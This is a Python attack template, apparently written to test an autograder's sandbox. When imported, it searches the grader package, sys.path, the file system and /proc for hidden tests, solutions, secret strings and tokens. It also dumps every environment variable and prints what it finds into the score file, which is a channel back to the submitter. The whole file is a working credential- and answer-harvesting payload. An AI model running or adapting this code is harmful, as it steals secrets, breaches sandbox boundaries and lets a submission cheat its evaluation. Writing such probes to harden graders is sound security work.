

# ---- attack: find the hidden tests, the solutions and secrets, and print them ---------------------
# The captured output lands in the score file: a channel back to the student. This looks where
# a student who knows the course's layout would: the paths in @@TARGETS@@, the grader package,
# every sys.path entry, the whole file system from @@WALK_ROOT@@ (empty: no walk; library
# folders are skipped as noise), /proc and the environment. Files whose name looks like a test,
# a points file, a solution or a secret are read and the test names and markers in them
# printed. Bounded: 10 s, 50 KB of output.
import os as _os
import re as _re
import sys as _sys
import time as _time

_NAME = _re.compile(r"^test_.*\.py$|^points\.ya?ml$|secret|answer|solution|hidden|oracle", _re.I)
_NOISE = _re.compile(r"/(site-packages|dist-packages|__pycache__|node_modules)(/|$)|/lib/python[\d.]*(/|$)|^/usr/share(/|$)")
# the grader's tests take the `submission` fixture (the public ones show it); course.yaml lists names
_TEXT = _re.compile(rb"def (test_\w+)\(submission|^\s*(test_\w+):\s*[\d.]+\s*$|(SECRET[-\w]+)|(tok-[0-9a-f]{32})", _re.M)
_budget = {"bytes": 48_000, "deadline": _time.monotonic() + 10}
_stats = {"files": 0, "dirs": 0, "denied": 0, "read": 0}


def _say(text):
    text = text[:2000]
    if _budget["bytes"] > 0:
        _budget["bytes"] -= len(text) + 1
        print(text)


def _read(path, limit=500_000):
    try:
        with open(path, "rb") as f:
            data = f.read(limit)
        _stats["read"] += 1
        return data
    except OSError:
        _stats["denied"] += 1
        return None


def _report(path, data):
    names = sorted({next(g for g in m if g).decode(errors="replace") for m in _TEXT.findall(data or b"")})
    if names:
        _say(f"FOUND {path}: {' '.join(names)}")


def _walk(root, everything=False):
    def denied(error):
        _stats["denied"] += 1

    for dirpath, dirnames, filenames in _os.walk(root, onerror=denied):
        if _time.monotonic() > _budget["deadline"]:
            return
        if not everything:
            dirnames[:] = [d for d in dirnames if not _NOISE.search(_os.path.join(dirpath, d))
                           and _os.path.join(dirpath, d) not in ("/proc", "/sys", "/dev")]
        _stats["dirs"] += 1
        for name in filenames:
            _stats["files"] += 1
            if everything or _NAME.search(name):
                path = _os.path.join(dirpath, name)
                _report(path, _read(path))


def _steal():
    for path in @@TARGETS@@:
        if _os.path.isdir(path):
            try:
                _say(f"LISTED {path}: {sorted(_os.listdir(path))[:40]}")
            except OSError as exc:
                _say(f"DENIED {path}: {type(exc).__name__}")
            _walk(path, everything=True)
        else:
            data = _read(path)
            _say(f"DENIED {path}" if data is None else f"READ {path}: {len(data)} bytes")
            _report(path, data)
    try:
        import grader
        for p in getattr(grader, "__path__", []):
            _walk(p, everything=True)
    except Exception as exc:  # noqa: BLE001
        _say(f"no grader package: {exc!r}")
    for entry in list(_sys.path):
        if entry and _os.path.isdir(entry) and not _NOISE.search(entry):
            _walk(entry)
    if "@@WALK_ROOT@@":
        _walk("@@WALK_ROOT@@")
    for pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
        for what in ("environ", "cmdline"):
            _report(f"/proc/{pid}/{what}", _read(f"/proc/{pid}/{what}", 50_000))
    for key, value in sorted(_os.environ.items()):
        _say(f"ENV {key}={value}")
    _budget["bytes"] += 500
    _say("WALKED files={files} dirs={dirs} read={read} denied={denied}".format(**_stats))


if not _os.path.exists(".stolen"):  # once per worker: every call re-imports this module
    open(".stolen", "w").close()
    _steal()
